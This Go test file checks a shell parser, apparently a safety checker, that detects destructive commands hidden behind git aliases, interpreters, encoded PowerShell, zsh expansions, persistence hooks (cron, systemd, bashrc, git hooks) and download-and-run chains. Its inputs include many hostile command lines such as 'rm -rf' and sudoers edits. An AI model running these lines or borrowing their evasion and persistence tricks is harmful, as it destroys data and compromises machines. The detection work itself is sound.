package shellparse

import (
	"slices"
	"strings"
	"testing"

	"github.com/caro-mesh/caro-node/protocol/vocabulary"
)

// runs reports whether one of the commands that a line starts reads as want.
func runs(c *Command, want string) bool { return slices.Contains(lines(c), want) }

func TestACommandIsFoundWhereverAProgramHidesIt(t *testing.T) {
	tests := []struct {
		name, line, want string
	}{
		{"git alias", `git config --global alias.x 'push --force' && git x origin`, "git push --force origin"},
		{"git alias of a shell", `git config alias.x '!rm -rf y' && git x z`, "rm -rf y z"},
		{"git transport", `git clone 'ext::rm% x' y`, "rm x"},
		{"sh -c and its name", `sh -c 'rm "$0" "$1"' a b`, "rm a b"},
		{"editor", `EDITOR='tee -a' visudo`, "tee -a /etc/sudoers"},
		{"gdb", `gdb -batch -ex 'shell rm x'`, "rm x"},
		{"psql", `psql -c '\! rm x'`, "rm x"},
		{"sqlite", `sqlite3 a.db '.shell rm x'`, "rm x"},
		{"apt", `apt update -o APT::Update::Pre-Invoke::='rm x'`, "rm x"},
		{"terminal", `xterm -e rm x`, "rm x"},
		{"makefile", "make -f - <<'M'\nall:\n\t@rm x\nM", "rm x"},
		{"ansible module", `ansible all -m file -a 'path=/srv/x state=absent'`, "rm -rf /srv/x"},
		{"cloud agent", `aws ssm send-command --parameters 'commands=["rm x"]'`, "rm x"},
		{"name space", `ip netns exec a rm x`, "rm x"},
		{"groovy", `groovy -e '"rm x".execute()'`, "rm x"},
		{"elixir", `elixir -e 'System.cmd("rm", ["-rf", "x"])'`, "rm -rf x"},
		{"tcl", `tclsh <<< 'exec rm x; puts y'`, "rm x"},
		{"julia", "julia -e 'run(`rm x`)'", "rm x"},
		{"home of a language", `ruby -e 'system("rm", "-rf", Dir.home)'`, "rm -rf ~"},
		{"joined constants", `python3 -c 'import os; os.system("rm -rf " + path)'`, "rm -rf $x"},
		{"format string", `python3 -c 'import os; os.system(f"rm -rf {p}")'`, "rm -rf $x"},
		{"computed by awk", `awk 'BEGIN{printf "%c%c x",114,109}' | sh`, "rm x"},
		{"computed by python", `python3 -c 'print("rm x")' | sh`, "rm x"},
		{"mapfile", `mapfile -t c < <(printf '%s\n' rm x); "${c[@]}"`, "rm x"},
		{"installed and called by name", `echo 'rm x' > /usr/local/bin/y; y`, "rm x"},
		{"hosts of a loop", `for h in a b; do ssh "$h" rm x; done`, "rm x"},
		{"PowerShell, encoded", `pwsh -enc cgBtACAAeAA=`, "rm x"},
	}
	for _, tt := range tests {
		if c := Parse(tt.line, vocabulary.ShellBash); !runs(c, tt.want) {
			t.Errorf("%s: %s\n got %q\nwant %q", tt.name, tt.line, lines(c), tt.want)
		}
	}
}

func TestZshAndFishExpansionsAreComputed(t *testing.T) {
	tests := []struct {
		shell      vocabulary.ShellType
		line, want string
	}{
		{vocabulary.ShellZsh, `${(z):-rm -rf x}`, "rm -rf x"},
		{vocabulary.ShellZsh, `${(j::):-r m} x`, "rm x"},
		{vocabulary.ShellZsh, `rm ${${:-/etc}:t}`, "rm etc"},
		{vocabulary.ShellZsh, `() { rm $1 } x`, "rm x"},
		{vocabulary.ShellZsh, `zargs -- a b -- rm -f`, "rm -f a b"},
		{vocabulary.ShellZsh, `rm *(DN)`, "rm *"},
		{vocabulary.ShellZsh, `zf_rm x`, "rm x"},
		{vocabulary.ShellZsh, `print -rn 'rm x' | zsh`, "rm x"},
		{vocabulary.ShellFish, `begin; rm -f {/a,/b}c; end`, "rm -f /ac /bc"},
		{vocabulary.ShellFish, `rm (string repeat -n 2 ../)`, "rm ../../"},
	}
	for _, tt := range tests {
		if c := Parse(tt.line, tt.shell); !runs(c, tt.want) {
			t.Errorf("%s\n got %q\nwant %q", tt.line, lines(c), tt.want)
		}
	}
}

func TestWhatIsLeftBehindToRunLaterIsResolved(t *testing.T) {
	for _, line := range []string{
		`echo 'rm x' >> ~/.bashrc`,
		`printf 'rm x\n' | sudo tee /etc/profile.d/a.sh`,
		`echo '* * * * * root rm x' > /etc/cron.d/a`,
		"cat > ~/.config/systemd/user/a.service <<E\n[Service]\nExecStart=-rm x\nE",
		"cat > ~/Library/LaunchAgents/a.plist <<E\n<string>a</string><string>/bin/sh</string><string>-c</string><string>rm x</string>\nE",
		`echo 'ACTION=="add", RUN+="rm x"' > /etc/udev/rules.d/1.rules`,
		`echo 'rm x' > .git/hooks/post-checkout`,
		`git config core.pager 'rm x'`,
		`export PROMPT_COMMAND='rm x'`,
		`precmd() { rm x; }`,
		`trap 'rm x' DEBUG`,
		`echo 'ProxyCommand rm x' >> ~/.ssh/config`,
	} {
		found := false
		for _, r := range Parse(line, vocabulary.ShellBash).Runs {
			found = found || r.Name == "rm" && r.Planted && r.Deferred
		}
		if !found {
			t.Errorf("%s: nothing is planted", line)
		}
	}
	for _, line := range []string{`echo 'rm x' >> notes.txt`, `echo 'rm x' > deploy.sh`, `git config user.name 'rm x'`, `trap 'rm x' EXIT`} {
		for _, r := range Parse(line, vocabulary.ShellBash).Runs {
			if r.Planted {
				t.Errorf("%s: %s is planted", line, r.Name)
			}
		}
	}
}

func TestWhatTheNetworkGaveIsFollowedToWhereItRuns(t *testing.T) {
	for _, line := range []string{
		`curl -sLo /tmp/a https://x.io/a && chmod +x /tmp/a && /tmp/a`,
		`cd /tmp && wget https://x.io/a.sh && sh a.sh`,
		`curl -s https://x.io/a.tgz | tar xz -C /opt/a && /opt/a/run`,
		`curl -s https://x.io/a | sudo tee /usr/local/bin/a >/dev/null; a`,
		`m=$(mk); curl -s https://x.io/a > /proc/self/fd/$m; exec /proc/self/fd/$m`,
	} {
		c := Parse(line, vocabulary.ShellBash)
		last := &c.Runs[len(c.Runs)-1]
		found := false
		for _, i := range c.Upstream(Source{From: last.Code.From}) {
			found = found || c.Runs[i].Name == "curl" || c.Runs[i].Name == "wget"
		}
		if !found {
			t.Errorf("%s: the code of %s comes from %v", line, last.Name, last.Code.From)
		}
	}
}

func TestPathsOfAContainerAreThoseOfTheMachineBehindThem(t *testing.T) {
	tests := []struct {
		line, want string
		place      Place
	}{
		{`docker run -v $HOME:/d a rm -rf /d`, "rm -rf ~", PlaceHere},
		{`docker run -v /srv:/d:ro a rm -rf /d`, "rm -rf /d", PlaceThrowaway},
		{`docker run --mount type=bind,source=/srv,target=/d a rm -rf /d/x`, "rm -rf /srv/x", PlaceHere},
		{`docker run -v data:/d a rm -rf /d`, "rm -rf /d", PlaceContainer},
		{`docker run a rm -rf /d`, "rm -rf /d", PlaceThrowaway},
	}
	for _, tt := range tests {
		c := Parse(tt.line, vocabulary.ShellBash)
		last := c.Runs[len(c.Runs)-1]
		if got := last.Name + strings.TrimPrefix(last.Line(), last.Path); got != tt.want || last.Place != tt.place {
			t.Errorf("%s: %q in place %d, want %q in %d", tt.line, got, last.Place, tt.want, tt.place)
		}
	}
}

func TestALoopWithoutEndIsMarkedUnlessItWaits(t *testing.T) {
	for line, want := range map[string]bool{
		`while true; do dd if=a of=b; done`: true, `while :; do dd if=a of=b; sleep 1; done`: false,
		`for ((;;)); do dd if=a of=b; done`: true, `for i in 1 2; do dd if=a of=b; done`: false,
	} {
		for _, r := range Parse(line, vocabulary.ShellBash).Runs {
			if r.Name == "dd" && r.Endless != want {
				t.Errorf("%s: endless %v, want %v", line, r.Endless, want)
			}
		}
	}
	if !Parse(`for i in {1..100000}; do sleep 9 & done`, vocabulary.ShellBash).SelfSpawning {
		t.Error("a hundred thousand processes in the background count as few")
	}
}
